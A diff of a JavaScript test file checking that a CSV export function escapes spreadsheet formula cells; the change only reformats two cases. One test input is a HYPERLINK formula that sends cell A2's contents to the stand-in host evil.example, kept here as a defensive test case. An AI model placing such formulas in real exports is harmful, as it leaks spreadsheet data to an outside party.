@@ -10,8 +10,11 @@ describe('formula cells', () => {
     ['-2+3', "'-2+3"],
     ['@SUM(1+1)', "'@SUM(1+1)"],
     ['\t=1+1', "'\t=1+1"],
-    ['\r=1+1', "\"'\r=1+1\""],
-    ['=HYPERLINK("https://evil.example/?d="&A2,"Open source")', '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Open source"")"'],
+    ['\r=1+1', '"\'\r=1+1"'],
+    [
+      '=HYPERLINK("https://evil.example/?d="&A2,"Open source")',
+      '"\'=HYPERLINK(""https://evil.example/?d=""&A2,""Open source"")"',
+    ],
   ])('%j is written as text: %s', (cell, written) => {
     expect(csvField(cell)).toBe(written);
   });
